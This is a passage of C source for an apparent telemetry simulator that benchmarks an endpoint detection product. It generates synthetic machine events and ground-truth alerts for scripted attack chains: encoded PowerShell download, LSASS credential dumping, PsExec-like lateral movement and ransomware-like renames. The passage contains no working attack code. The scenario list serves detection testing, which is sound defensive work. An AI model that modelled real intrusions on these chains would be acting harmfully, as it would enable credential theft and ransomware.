};

static const char *const sim_files_l_sys[] = {
    "/var/log/syslog",
    "/var/log/auth.log",
    "/var/log/nginx/access.log",
    "/tmp/tmp#.json",
    "/var/lib/docker/overlay2/#/merged/app/data.db",
    "/var/cache/apt/archives/partial/pkg-#.deb",
    "/var/lib/postgresql/15/main/base/16384/#",
    "/etc/hosts",
    "/srv/app/data/upload-#.bin",
    "/var/lib/mdatp/wdavhistory/#",
};

static const struct sim_host sim_hosts[] = {
    {"www.google.com", "142.250.185.196"},       {"login.microsoftonline.com", "20.190.159.2"},
    {"outlook.office365.com", "52.97.146.162"},  {"winatp-gw-eus.microsoft.com", "20.42.73.26"},
    {"update.googleapis.com", "142.250.186.35"}, {"github.com", "140.82.121.4"},
    {"teams.microsoft.com", "52.113.194.132"},   {"settings-win.data.microsoft.com", "20.42.65.85"},
    {"deb.debian.org", "151.101.130.132"},       {"pypi.org", "151.101.0.223"},
    {"registry.npmjs.org", "104.16.23.35"},      {"ctldl.windowsupdate.com", "93.184.221.240"},
    {"www.bing.com", "204.79.197.200"},          {"s3.amazonaws.com", "52.216.8.11"},
    {"api.slack.com", "54.192.51.23"},           {"dc01.corp.contoso.com", "10.0.0.10"},
};

static const struct sim_regval sim_reg[] = {
    {"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update",
     "LastOnlineScanTimeForAppCategory", "REG_SZ", "2026-01-05 07:58:12"},
    {"HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates", "SignaturesLastUpdated",
     "REG_BINARY", "(Binary data)"},
    {"HKU\\S-1-5-21-3623811015-3361044348-30300820-1013\\Software\\Microsoft\\Office\\16.0\\Word\\"
     "Reading Locations\\Document 0",
     "Datetime", "REG_SZ", "2026-01-05T08:01"},
    {"HKU\\S-1-5-21-3623811015-3361044348-30300820-1013\\Software\\Microsoft\\Windows\\"
     "CurrentVersion\\Explorer\\RecentDocs\\.docx",
     "MRUListEx", "REG_BINARY", "(Binary data)"},
    {"HKLM\\SYSTEM\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\"
     "S-1-5-21-3623811015-3361044348-30300820-1013",
     "\\Device\\HarddiskVolume3\\Windows\\System32\\notepad.exe", "REG_BINARY", "(Binary data)"},
    {"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\"
     "Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan",
     "Index", "REG_DWORD", "DWORD (0x00000003)"},
    {"HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\"
     "{4d36e972-e325-11ce-bfc1-08002be10318}",
     "DhcpIPAddress", "REG_SZ", "10.0.0.5"},
    {"HKU\\S-1-5-21-3623811015-3361044348-30300820-1013\\Software\\Google\\Chrome\\"
     "PreferenceMACs\\Default",
     "homepage", "REG_SZ", "2F9A0C1B"},
    {"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Component Based Servicing\\"
     "SessionsPending",
     "Exclusive", "REG_DWORD", "DWORD (0x00000000)"},
};

static const char *const sim_dlls_w[SIM_NDLL_W] = {
    "C:\\Windows\\System32\\ntdll.dll",      "C:\\Windows\\System32\\kernel32.dll",
    "C:\\Windows\\System32\\KernelBase.dll", "C:\\Windows\\System32\\user32.dll",
    "C:\\Windows\\System32\\advapi32.dll",   "C:\\Windows\\System32\\ws2_32.dll",
    "C:\\Windows\\System32\\crypt32.dll",    "C:\\Windows\\System32\\combase.dll",
    "C:\\Windows\\System32\\winhttp.dll",    "C:\\Windows\\System32\\bcrypt.dll",
};

static const char *const sim_dlls_l[SIM_NDLL_L] = {
    "/usr/lib/x86_64-linux-gnu/libc.so.6",       "/usr/lib/x86_64-linux-gnu/libssl.so.3",
    "/usr/lib/x86_64-linux-gnu/libcrypto.so.3",  "/usr/lib/x86_64-linux-gnu/libz.so.1.2.13",
    "/usr/lib/x86_64-linux-gnu/libsystemd.so.0", "/usr/lib/x86_64-linux-gnu/libpam.so.0",
};

static const struct sim_sw sim_sw_w[] = {
    {"Google Chrome", "120.0.6099.130", "Google LLC"},
    {"Microsoft 365 Apps for enterprise", "16.0.17126.20132", "Microsoft Corporation"},
    {"7-Zip 23.01 (x64)", "23.01", "Igor Pavlov"},
    {"Notepad++ (64-bit x64)", "8.6", "Notepad++ Team"},
    {"Zoom Workplace", "5.17.5", "Zoom Video Communications, Inc."},
};

static const struct sim_sw sim_sw_l[] = {
    {"openssl", "3.0.11-1~deb12u2", "Debian"},
    {"openssh-server", "1:9.2p1-2+deb12u1", "Debian"},
    {"python3.11", "3.11.2-6", "Debian"},
    {"nginx", "1.22.1-9", "Debian"},
};

static const char *const sim_il_names[] = {"", "Low", "Medium", "High", "System"};
static const char *const sim_os_w[] = {"10.0.19045", "10.0.22631", "10.0.20348"};
static const char *const sim_os_l[] = {"Debian 12", "Ubuntu 22.04", "Red Hat Enterprise Linux 9.3"};
static const char *const sim_lnx_roles[] = {"web", "db", "build", "app", "k8s-node"};

/* Expected alerts, by enum bench_scen. */
static const struct {
    const char *name;
    const char *title;
    const char *severity;
} sim_scen_info[BENCH_SCEN__COUNT] = {
    [BENCH_SCEN_WIN_REF] = {"win-ref", BENCH_SIM_WIN_REF_TITLE, "Informational"},
    [BENCH_SCEN_LNX_REF] = {"linux-ref", BENCH_SIM_LNX_REF_TITLE, "Low"},
    [BENCH_SCEN_CHAIN_DOWNLOAD] = {"chain-download", "PowerShell encoded command", "Medium"},
    [BENCH_SCEN_CHAIN_CREDDUMP] = {"chain-creddump", "Credential dumping from LSASS memory",
                                   "High"},
    [BENCH_SCEN_CHAIN_LATERAL] = {"chain-lateral",
                                  "Lateral movement: remote service execution (PsExec-like)",
                                  "High"},
    [BENCH_SCEN_CHAIN_RANSOM] = {"chain-ransom", "Ransomware-like mass file renames", "High"},
};

static const char *const sim_kind_names[BENCH_SIM_KIND__COUNT] = {
    "process_created", "process_exited", "file",       "network",  "dns",
    "registry",        "logon",          "image_load", "software",
};

/* ---- public functions ------------------------------------------------------------- */

void bench_sim_opts_default(struct bench_sim_opts *o)
{
    memset(o, 0, sizeof(*o));
    o->seed = 1;
    o->machines = 1000;
    o->tenants = 10;
    o->linux_share = 0.3;
    o->start_us = INT64_C(1767600000) * VG_US_PER_SEC; /* 2026-01-05T08:00:00Z */
    o->duration_us = 20 * VG_US_PER_SEC;
    o->events_per_machine_per_sec = 5.0;
    o->events_per_batch = 32;
    o->batch_span_us = VG_US_PER_SEC;
    o->scenarios = true;
    o->scenario_start_us = 2 * VG_US_PER_SEC;
}

static int sim_check_opts(const struct bench_sim_opts *o, char *err, size_t errlen)
{
    const char *why = NULL;

    if (o->machines < 1 || o->machines > (1u << 24))
        why = "machines must be 1 .. 16777216";
    else if (o->tenants < 1 || o->tenants > o->machines)
        why = "tenants must be 1 .. machines";
    else if (!(o->linux_share >= 0.0 && o->linux_share <= 1.0))
        why = "linux_share must be 0 .. 1";
    else if (o->duration_us <= 0 || o->duration_us >= INT64_C(1) << 39)
        why = "duration must be positive and below 6 days";
    else if (!(o->events_per_machine_per_sec > 0.0 && o->events_per_machine_per_sec <= 1e6))
        why = "events_per_machine_per_sec must be > 0 and <= 1e6";
    else if (o->events_per_batch < 1 || o->events_per_batch > 100000)
        why = "events_per_batch must be 1 .. 100000";
    else if (o->batch_span_us <= 0)
        why = "batch_span_us must be positive";
    else if (o->scenario_start_us < 0 || o->scenario_every_us < 0)
        why = "scenario times must not be negative";
    if (why != NULL && err != NULL && errlen > 0)
        snprintf(err, errlen, "bench_sim: %s", why);
    return why == NULL ? 0 : -VG_EINVAL;
}

static void sim_hex(const char *s, uint64_t salt, char *out, size_t nhex)
{
    static const char digits[] = "0123456789abcdef";
    uint64_t h = vg_hash64(s, strlen(s), salt);
    size_t i;

    for (i = 0; i < nhex; i++) {
        if (i % 16 == 0)
            h = sim_mix(h + i);
        out[i] = digits[(h >> ((i % 16) * 4)) & 15];
    }
    out[nhex] = '\0';
}

static void sim_init_hashes(bench_sim *s)
{
    size_t i;

    /* From the image path only: the same binary has the same hashes on every machine. */
    for (i = 0; i < P__COUNT; i++) {
        sim_hex(sim_progs[i].image, 256, s->ph[i].sha256, 64);
        sim_hex(sim_progs[i].image, 160, s->ph[i].sha1, 40);
        sim_hex(sim_progs[i].image, 128, s->ph[i].md5, 32);
        s->pexp[i] = (uint8_t)((strpbrk(sim_progs[i].image, "@#") != NULL) |
                               (strpbrk(sim_progs[i].cmdline, "@#") != NULL) << 1 |
                               (strpbrk(sim_progs[i].cwd, "@#") != NULL) << 2);
    }
    for (i = 0; i < SIM_NDLL_W; i++)
        sim_hex(sim_dlls_w[i], 256, s->dll_w[i], 64);
    for (i = 0; i < SIM_NDLL_L; i++)
        sim_hex(sim_dlls_l[i], 256, s->dll_l[i], 64);
}

static uint32_t sim_tenant_count(const bench_sim *s, uint32_t t0)
{
    return (s->o.machines - t0 + s->o.tenants - 1) / s->o.tenants;
}

static void sim_init_machines(bench_sim *s)
{
    uint32_t i;
    int64_t first;

    for (i = 0; i < s->o.machines; i++) {
        struct sim_machine *m = &s->m[i];
        uint64_t h = sim_mix(s->o.seed ^ ((uint64_t)(i + 1) * 0x9e3779b97f4a7c15ull));

        memset(m, 0, sizeof(*m));
        m->rng = h;
        m->seq = 1 + (h >> 44); /* sensors have sent events before the run */
        m->os = (double)(h >> 11) * 0x1.0p-53 < s->o.linux_share ? OS_L : OS_W;
        m->pid_next = 2000 + (uint32_t)((h >> 20) % 20000);
        m->run = SIM_NO_RUN;
        first = s->gap_us < s->o.batch_span_us ? s->gap_us : s->o.batch_span_us;
        m->next_ts = s->o.start_us + (int64_t)(sim_rand(m) % (uint64_t)(first + 1));
        s->heap[i] = sim_key(s, i);
    }
}

/* A machine's heap key: its next event time (relative to the start, capped at the end)
 * above its number. One integer compare orders by time, then by machine number, and the
 * heap stays a flat array that does not touch the machines themselves. */
static uint64_t sim_key(const bench_sim *s, uint32_t idx)
{
    int64_t t = VG_MIN(s->m[idx].next_ts, s->end_us) - s->o.start_us;

    return (uint64_t)t << SIM_KEY_SHIFT | idx;
}

static void sim_heap_down(bench_sim *s, size_t i)
{
    size_t n = s->o.machines;
    uint64_t v = s->heap[i], *h = s->heap;

    for (;;) {
        size_t l = 2 * i + 1, best;

        if (l >= n)
            break;
        best = l + 1 < n && h[l + 1] < h[l] ? l + 1 : l;
        if (h[best] >= v)
            break;
        h[i] = h[best];
        i = best;
    }
    h[i] = v;
}

/* Machine j of tenant t (0-based) is machine number t + j * T. */
static int64_t sim_pick_machine(const bench_sim *s, uint32_t t, uint8_t os, uint64_t h,
                                const int64_t *avoid, int navoid)
{
    uint32_t n = sim_tenant_count(s, t), j, k;
    int i;

    for (k = 0; k < n; k++) {
        uint32_t idx;

        j = (uint32_t)((h + k) % n);
        idx = t + j * s->o.tenants;
        if (s->m[idx].os != os)
            continue;
        for (i = 0; i < navoid; i++)
            if (avoid[i] == idx)
                break;
        if (i == navoid)
            return idx;
    }
    return -1;
}

static void sim_fmt_ids(const bench_sim *s, uint32_t idx, char *id, char *name);
static char *sim_u32(char *p, uint32_t v);

static void sim_add_truth(bench_sim *s, struct sim_run *r, enum bench_scen k, uint32_t chain)
{
    struct sim_truth *t = &s->truth[s->ntruth++];
    uint32_t tenant = r->machine % s->o.tenants + 1;

    memset(t, 0, sizeof(*t));
    snprintf(t->tenant, sizeof(t->tenant), "tenant-%u", tenant);
    sim_fmt_ids(s, r->machine, t->machine, NULL);
    t->pub.kind = k;
    t->pub.chain = chain;
    t->pub.tenant = t->tenant;
    t->pub.machine = t->machine;
    t->pub.title = sim_scen_info[k].title;
    t->pub.severity = sim_scen_info[k].severity;
    t->pub.planned_us = r->at_us;
}

/* Adds a run and links it into its machine's list in time order. */
static struct sim_run *sim_add_run(bench_sim *s, uint8_t kind, uint32_t idx, int64_t at)
{
    struct sim_run *r = &s->runs[s->nruns];
    int32_t *link = &s->m[idx].run;

    memset(r, 0, sizeof(*r));
    r->kind = kind;
    r->machine = idx;
    r->at_us = at;
    r->truth = (uint32_t)s->ntruth;
    r->act[0] = r->act[1] = r->act[2] = -1;
    while (*link != SIM_NO_RUN && s->runs[*link].at_us <= at)
        link = &s->runs[*link].next;
    r->next = *link;
    *link = (int32_t)s->nruns++;
    return r;
}

static void sim_schedule_tenant(bench_sim *s, uint32_t t, uint32_t round, int64_t base,
                                uint32_t *chain)
{
    uint32_t mask = s->o.scenario_mask ? s->o.scenario_mask : 7u;
    uint64_t h = sim_mix(s->o.seed ^ ((uint64_t)t << 32) ^ round);
    int64_t a, b, c, w = -1, avoid[3];
    struct sim_run *r;
    int skip;

    if ((mask & BENCH_SIM_RUN_WIN_REF) && (w = sim_pick_machine(s, t, OS_W, h, NULL, 0)) >= 0) {
        r = sim_add_run(s, RUN_WIN_REF, (uint32_t)w, base);
        sim_add_truth(s, r, BENCH_SCEN_WIN_REF, ++*chain);
    }
    if ((mask & BENCH_SIM_RUN_LNX_REF) &&
        (a = sim_pick_machine(s, t, OS_L, sim_mix(h + 1), NULL, 0)) >= 0) {
        r = sim_add_run(s, RUN_LNX_REF, (uint32_t)a, base + VG_US_PER_SEC / 2);
        sim_add_truth(s, r, BENCH_SCEN_LNX_REF, ++*chain);
    }
    if (!(mask & BENCH_SIM_RUN_CHAIN))
        return;
    /* Runs on one machine go one after the other, so the chain keeps off the machine of
     * the Windows reference test (whose window stays open a while) when it can. */
    for (skip = w >= 0 ? 1 : 0; skip >= 0; skip--) {
        avoid[0] = w;
        a = sim_pick_machine(s, t, OS_W, sim_mix(h + 2), avoid, skip);
        avoid[skip] = a;
        b = a < 0 ? -1 : sim_pick_machine(s, t, OS_W, sim_mix(h + 3), avoid, skip + 1);
        avoid[skip + 1] = b;
        c = b < 0 ? -1 : sim_pick_machine(s, t, OS_W, sim_mix(h + 4), avoid, skip + 2);
        if (c >= 0)
            break;
    }
    if (c < 0)
        return; /* the tenant has fewer than three Windows machines */
    ++*chain;
    r = sim_add_run(s, RUN_CHAIN_A, (uint32_t)a, base + VG_US_PER_SEC);
    r->peer = (uint32_t)b;
    r->origin = (uint32_t)a;
    sim_add_truth(s, r, BENCH_SCEN_CHAIN_DOWNLOAD, *chain);
    sim_add_truth(s, r, BENCH_SCEN_CHAIN_CREDDUMP, *chain);
    r = sim_add_run(s, RUN_CHAIN_B, (uint32_t)b, base + 4 * VG_US_PER_SEC);
    r->peer = (uint32_t)a;
    r->origin = (uint32_t)a;
    sim_add_truth(s, r, BENCH_SCEN_CHAIN_LATERAL, *chain);
    r = sim_add_run(s, RUN_CHAIN_C, (uint32_t)c, base + 7 * VG_US_PER_SEC);
    r->peer = (uint32_t)b;
    r->origin = (uint32_t)a;
    sim_add_truth(s, r, BENCH_SCEN_CHAIN_RANSOM, *chain);
}

static int sim_schedule(bench_sim *s)
{
    uint32_t ntenants =
        s->o.scenario_tenants ? VG_MIN(s->o.scenario_tenants, s->o.tenants) : s->o.tenants;
    uint64_t rounds = 1, r;
    uint32_t t, chain = 0;

    if (!s->o.scenarios)
        return 0;
    if (s->o.scenario_every_us > 0 && s->o.duration_us > s->o.scenario_start_us)
        rounds =
            (uint64_t)((s->o.duration_us - s->o.scenario_start_us + s->o.scenario_every_us - 1) /
                       s->o.scenario_every_us);
    if (rounds * ntenants > 1000000)
        return -VG_EINVAL; /* a million scenario groups is not a benchmark of anything */
    s->runs = vg_calloc(rounds * ntenants * 5, sizeof(*s->runs));
    s->truth = vg_calloc(rounds * ntenants * 6, sizeof(*s->truth));
    if (s->runs == NULL || s->truth == NULL)
        return -VG_ENOMEM;
    for (r = 0; r < rounds; r++) {
        int64_t base = s->o.start_us + s->o.scenario_start_us + (int64_t)r * s->o.scenario_every_us;

        for (t = 0; t < ntenants; t++)
            sim_schedule_tenant(s, t, (uint32_t)r, base + (int64_t)(t % 100) * 10000, &chain);
    }
    return 0;
}

int bench_sim_new(const struct bench_sim_opts *o, bench_sim **out, char *errbuf, size_t errlen)
{
    bench_sim *s;
    size_t i;
    int err;

    *out = NULL;
    err = sim_check_opts(o, errbuf, errlen);
    if (err < 0)
        return err;
    s = vg_calloc(1, sizeof(*s));
    if (s == NULL)
        return -VG_ENOMEM;
    s->o = *o;
    s->end_us = o->start_us + o->duration_us;
    s->gap_us = (int64_t)llround(1e6 / o->events_per_machine_per_sec);
    s->m = vg_malloc((size_t)o->machines * sizeof(*s->m));
    s->heap = vg_malloc((size_t)o->machines * sizeof(*s->heap));
    err = -VG_ENOMEM;
    if (s->m == NULL || s->heap == NULL)
        goto out_free;
    sim_init_hashes(s);
    sim_init_machines(s);
    for (i = o->machines / 2; i-- > 0;)
        sim_heap_down(s, i);
    err = sim_schedule(s);
    if (err < 0) {
        if (err == -VG_EINVAL && errbuf != NULL && errlen > 0)
            snprintf(errbuf, errlen, "bench_sim: too many scenario rounds");
        goto out_free;
    }
    *out = s;
    return 0;

out_free:
    bench_sim_free(s);
    return err;
}

void bench_sim_free(bench_sim *s)
{
    if (s == NULL)
        return;
    vg_free(s->m);
    vg_free(s->heap);
    vg_free(s->runs);
    vg_free(s->truth);
    vg_free(s);
}

/* Formats by hand: snprintf was a fifth of the cost of a small batch. */
static char *sim_cat(char *p, const char *str)
{
    size_t n = strlen(str);

    memcpy(p, str, n);
    return p + n;
}

static char *sim_u32_pad(char *p, uint32_t v, int width)
{
    char tmp[10];
    int n = 0;

    do {
        tmp[n++] = (char)('0' + v % 10);
        v /= 10;
    } while (v != 0);
    while (width-- > n)
        *p++ = '0';
    while (n > 0)
        *p++ = tmp[--n];
    return p;
}

/* id ("WIN-tenant-7-000123") and name ("DESKTOP-4F2K9QZ", "web-000123") of machine idx;
 * each buffer (or NULL) must hold SIM_ID_MAX bytes. */
static void sim_fmt_ids(const bench_sim *s, uint32_t idx, char *id, char *name)
{
    static const char b36[] = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ";
    uint32_t t = idx % s->o.tenants + 1, num = idx / s->o.tenants + 1;
    uint64_t h = sim_mix(s->o.seed ^ ((uint64_t)(idx + 1) * 0x9e3779b97f4a7c15ull)), x;
    bool lnx = s->m[idx].os == OS_L;
    char *p;
    int i;

    if (id != NULL) {
        p = sim_cat(id, lnx ? "lnx-tenant-" : "WIN-tenant-");
        p = sim_u32_pad(p, t, 1);
        *p++ = '-';
        *sim_u32_pad(p, num, 6) = '\0';
    }
    if (name == NULL)
        return;
    if (lnx) {
        p = sim_cat(name, sim_lnx_roles[(h >> 40) % VG_ARRAY_SIZE(sim_lnx_roles)]);
        *p++ = '-';
        *sim_u32_pad(p, num, 6) = '\0';
        return;
    }
    p = sim_cat(name, "DESKTOP-");
    for (x = h >> 17, i = 0; i < 7; i++, x /= 36)
        *p++ = b36[x % 36];
    *p = '\0';
}

/* buf must hold 16 bytes. */
static void sim_fmt_ip(const bench_sim *s, uint32_t idx, char *buf)
{
    uint32_t t = idx % s->o.tenants + 1, num = idx / s->o.tenants + 1;
    char *p = sim_cat(buf, "10.");

    p = sim_u32(p, t % 256);
    *p++ = '.';
    p = sim_u32(p, (num >> 8) & 255);
    *p++ = '.';
    *sim_u32(p, num & 255) = '\0';
}

/* The user who works on machine idx (its interactive logon). */
static const char *sim_user_of(const bench_sim *s, uint32_t idx)
{
    uint64_t h = sim_mix(s->o.seed ^ ((uint64_t)(idx + 1) * 0x9e3779b97f4a7c15ull));

    return sim_users[(h >> 32) % VG_ARRAY_SIZE(sim_users)];
}

static int sim_ctx_init(struct sim_ctx *c, bench_sim *s, vg_arena *a, uint32_t idx)
{
    static const char hex[] = "0123456789abcdef";
    struct sim_machine *m = &s->m[idx];
    char buf[SIM_ID_MAX], *p;
    uint32_t lid;
    int i;

    memset(c, 0, sizeof(*c));
    c->s = s;
    c->a = a;
    c->idx = idx;
    c->m = m;
    c->h = sim_mix(s->o.seed ^ ((uint64_t)(idx + 1) * 0x9e3779b97f4a7c15ull));
    c->tenant = idx % s->o.tenants + 1;
    c->num = idx / s->o.tenants + 1;
    c->boot_us = s->o.start_us - (int64_t)(1 + c->h % 20) * VG_US_PER_DAY -
                 (int64_t)((c->h >> 8) % (uint64_t)VG_US_PER_DAY);
    c->logon_us = s->o.start_us - (int64_t)(1 + (c->h >> 16) % 8) * 3600 * VG_US_PER_SEC -
                  (int64_t)((c->h >> 24) % (3600ull * 1000000));
    if (c->logon_us < c->boot_us + 60 * VG_US_PER_SEC)
        c->logon_us = c->boot_us + 60 * VG_US_PER_SEC;
    c->user = sim_user_of(s, idx);
    c->user_len = strlen(c->user);
    p = sim_cat(buf, m->os == OS_W ? "CONTOSO\\" : "");
    p = sim_cat(p, c->user);
    c->account_user = vg_arena_strndup(a, buf, (size_t)(p - buf));
    lid = 0x10000 + (uint32_t)((c->h >> 36) & 0xfffff); /* 0x10000 .. 0x10ffff: 6 digits */
    p = sim_cat(buf, "0x");
    for (i = 20; i >= 0; i -= 4)
        *p++ = hex[(lid >> i) & 15];
    c->logon_id = vg_arena_strndup(a, buf, (size_t)(p - buf));
    sim_fmt_ip(s, idx, buf);
    c->local_ip = vg_arena_strndup(a, buf, strlen(buf));
    if (c->account_user == NULL || c->logon_id == NULL || c->local_ip == NULL)
        return -VG_ENOMEM;
    return 0;
}

static int sim_fill_batch_head(struct sim_ctx *c, Vigil__TelemetryBatch *b)
{
    static const Vigil__TelemetryBatch init = VIGIL__TELEMETRY_BATCH__INIT;
    char id[SIM_ID_MAX], name[SIM_ID_MAX], tenant[SIM_ID_MAX];
    bool lnx = c->m->os == OS_L;

    *b = init;
    sim_fmt_ids(c->s, c->idx, id, name);
    *sim_u32(sim_cat(tenant, "tenant-"), c->tenant) = '\0';
    b->tenant_id = vg_arena_strndup(c->a, tenant, strlen(tenant));
    b->machine_id = vg_arena_strndup(c->a, id, strlen(id));
    b->machine_name = vg_arena_strndup(c->a, name, strlen(name));
    if (b->tenant_id == NULL || b->machine_id == NULL || b->machine_name == NULL)
        return -VG_ENOMEM;
    c->name = b->machine_name;
    b->os = lnx ? VIGIL__OS__OS_LINUX : VIGIL__OS__OS_WINDOWS;
    b->os_version = (char *)(lnx ? sim_os_l[(c->h >> 48) % VG_ARRAY_SIZE(sim_os_l)]
                                 : sim_os_w[(c->h >> 48) % VG_ARRAY_SIZE(sim_os_w)]);
    b->sensor_version = (char *)(lnx ? "101.24082.0004" : "10.8750.22621.1000");
    b->first_seq = c->m->seq;
    return 0;
}

int bench_sim_next(bench_sim *s, vg_arena *a, Vigil__TelemetryBatch **out)
{
    static const Vigil__Event ev_init = VIGIL__EVENT__INIT;
    uint32_t idx = (uint32_t)(s->heap[0] & SIM_KEY_MASK), max = s->o.events_per_batch, n = 0;
    struct sim_machine *m = &s->m[idx];
    Vigil__TelemetryBatch *b;
    Vigil__Event *evs;
    struct sim_ctx c;
    int64_t t0 = m->next_ts;
    int err;

    *out = NULL;
    if (t0 >= s->end_us)
        return 0;
    b = vg_arena_alloc(a, sizeof(*b));
    evs = vg_arena_alloc(a, max * sizeof(*evs));
    if (b == NULL || evs == NULL)
        return -VG_ENOMEM;
    err = sim_ctx_init(&c, s, a, idx);
    if (err == 0)
        err = sim_fill_batch_head(&c, b);
    if (err < 0)
        return err;
    b->events = vg_arena_alloc(a, max * sizeof(*b->events));
    if (b->events == NULL)
        return -VG_ENOMEM;
    while (n < max && m->next_ts < s->end_us && m->next_ts - t0 < s->o.batch_span_us) {
        evs[n] = ev_init;
        err = sim_gen_event(&c, &evs[n]);
        if (err < 0)
            return err;
        b->events[n] = &evs[n];
        n++;
    }
    b->n_events = n;
    s->st.batches++;
    s->st.events += n;
    s->heap[0] = sim_key(s, idx);
    sim_heap_down(s, 0);
    *out = b;
    return 1;
}

int bench_sim_pack(const Vigil__TelemetryBatch *b, vg_arena *a, uint8_t **buf, size_t *len)
{
    size_t n = vigil__telemetry_batch__get_packed_size(b);
    uint8_t *p = vg_arena_alloc(a, n ? n : 1);

    if (p == NULL)
        return -VG_ENOMEM;
    *len = vigil__telemetry_batch__pack(b, p);
    *buf = p;
    return 0;
}

size_t bench_sim_truth_count(const bench_sim *s)
{
    return s->ntruth;
}

const struct bench_sim_truth *bench_sim_truth_get(const bench_sim *s, size_t i)
{
    return i < s->ntruth ? &s->truth[i].pub : NULL;
}

const char *bench_scen_name(enum bench_scen k)
{
    return (unsigned)k < BENCH_SCEN__COUNT ? sim_scen_info[k].name : "?";
}

void bench_sim_stats(const bench_sim *s, struct bench_sim_stats *out)
{
    *out = s->st;
}

const char *bench_sim_kind_name(enum bench_sim_kind k)
{
    return (unsigned)k < BENCH_SIM_KIND__COUNT ? sim_kind_names[k] : "?";
}

size_t bench_sim_machine_bytes(void)
{
    return sizeof(struct sim_machine) + sizeof(uint64_t);
}

size_t bench_sim_state_bytes(const bench_sim *s)
{
    return sizeof(*s) + (size_t)s->o.machines * bench_sim_machine_bytes() +
           s->nruns * sizeof(*s->runs) + s->ntruth * sizeof(*s->truth);
}

/* ---- helpers: randomness ---------------------------------------------------------- */

static uint64_t sim_mix(uint64_t z)
{
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
}

/* splitmix64: one add and a mix per draw, 8 bytes of state per machine. */
static uint64_t sim_rand(struct sim_machine *m)
{
    m->rng += 0x9e3779b97f4a7c15ull;
    return sim_mix(m->rng);
}

static uint32_t sim_below(struct sim_machine *m, uint32_t n)
{
    return (uint32_t)(((sim_rand(m) >> 32) * n) >> 32);
}

/* ---- helpers: strings ------------------------------------------------------------- */

static char *sim_u32(char *p, uint32_t v)
{
    char tmp[10];
    int n = 0;

    do {
        tmp[n++] = (char)('0' + v % 10);
        v /= 10;
    } while (v != 0);
    while (n > 0)
        *p++ = tmp[--n];
    return p;
}

/* Expands '@' to the user and '#' to num. Returns t itself when it has neither, else an
 * arena copy; NULL on allocation failure. */
static char *sim_expand(struct sim_ctx *c, const char *t, uint32_t num)
{
    const char *first = strpbrk(t, "@#"), *q;
    size_t n = 0, tail;
    char *out, *p;

    if (first == NULL)
        return (char *)t;
    for (q = first; *q != '\0'; q++)
        n += *q == '@' || *q == '#';
    tail = (size_t)(q - first);
    out = vg_arena_alloc(c->a, (size_t)(first - t) + tail + n * VG_MAX(c->user_len, 10) + 1);
    if (out == NULL)
        return NULL;
    memcpy(out, t, (size_t)(first - t));
    for (p = out + (first - t), q = first; *q != '\0'; q++) {
        if (*q == '@') {
            memcpy(p, c->user, c->user_len);
            p += c->user_len;
        } else if (*q == '#') {
            p = sim_u32(p, num);
        } else {
            *p++ = *q;
        }
    }
    *p = '\0';
    return out;
}

static char *sim_random_hex(struct sim_ctx *c, size_t nhex)
{
    static const char digits[] = "0123456789abcdef";
    char *out = vg_arena_alloc(c->a, nhex + 1);
    uint64_t x = 0;
    size_t i;

    if (out == NULL)
        return NULL;
    for (i = 0; i < nhex; i++) {
        if (i % 16 == 0)
            x = sim_rand(c->m);
        out[i] = digits[(x >> ((i % 16) * 4)) & 15];
    }
    out[nhex] = '\0';
    return out;
}

/* ---- helpers: processes ----------------------------------------------------------- */

static int sim_static_prog(const struct sim_ctx *c, int sidx)
{
    return c->m->os == OS_W ? sidx : P_L_SYSTEMD + sidx;
}

static int sim_nstatic(const struct sim_ctx *c)
{
    return c->m->os == OS_W ? N_STATIC_W : N_STATIC_L;
}

static uint32_t sim_static_pid(const struct sim_ctx *c, int sidx)
{
    uint32_t j = (uint32_t)(sim_mix(c->h + (uint64_t)sidx) & 0xff);

    /* Disjoint from the ranges processes started during the run use (see sim_new_pid). */
    if (c->m->os == OS_W)
        return sidx == 0 ? 4 : 4 * (2 + 10 * (uint32_t)sidx + j % 8);
    return sidx == 0 ? 1 : 200 + 40 * (uint32_t)sidx + j % 40;
}

static int64_t sim_static_ctime(const struct sim_ctx *c, int sidx)
{
    const struct sim_prog *p = &sim_progs[sim_static_prog(c, sidx)];
    int64_t base = p->session ? c->logon_us : c->boot_us;

    if (sidx == 0)
        return base;
    return base + (int64_t)p->start_s * VG_US_PER_SEC +
           (int64_t)(sim_mix(c->h ^ (uint64_t)sidx << 40) % 1000000);
}

static const char *sim_account(const struct sim_ctx *c, uint8_t acct)
{
    switch (acct) {
    case A_SYSTEM:
        return "NT AUTHORITY\\SYSTEM";
    case A_LOCALSVC:
        return "NT AUTHORITY\\LOCAL SERVICE";
    case A_NETSVC:
        return "NT AUTHORITY\\NETWORK SERVICE";
    case A_ROOT:
        return "root";
    case A_WWW:
        return "www-data";
    default:
        return c->account_user;
    }
}

static const char *sim_logon_id(const struct sim_ctx *c, uint8_t acct)
{
    if (c->m->os == OS_L)
        return "";
    switch (acct) {
    case A_SYSTEM:
        return "0x3e7";
    case A_LOCALSVC:
        return "0x3e5";
    case A_NETSVC:
        return "0x3e4";
    default:
        return c->logon_id;
    }
}

static const char *sim_basename(const char *path)
{
    const char *b = path, *q;

    for (q = path; *q != '\0'; q++)
        if (*q == '\\' || *q == '/')
            b = q + 1;
    return b;
}

/*
 * The account a chain's attacker stole on the chain's first machine ("CONTOSO\\<that
 * machine's user>") and the id of the logon session it holds on this machine, for the
 * chain run in progress here; both in the arena. Outside a chain run (never: only chain
 * steps start A_STOLEN programs) the machine's own user. Returns 0 or -VG_ENOMEM.
 */
static int sim_stolen(struct sim_ctx *c, char **acct, char **logon_id)
{
    static const char hex[] = "0123456789abcdef";
    const struct sim_run *r = c->m->run != SIM_NO_RUN ? &c->s->runs[c->m->run] : NULL;
    char buf[80], *p;
    uint32_t lid;

    if (VG_NEVER(r == NULL || r->kind < RUN_CHAIN_A)) {
        *acct = c->account_user;
        *logon_id = c->logon_id;
        return 0;
    }
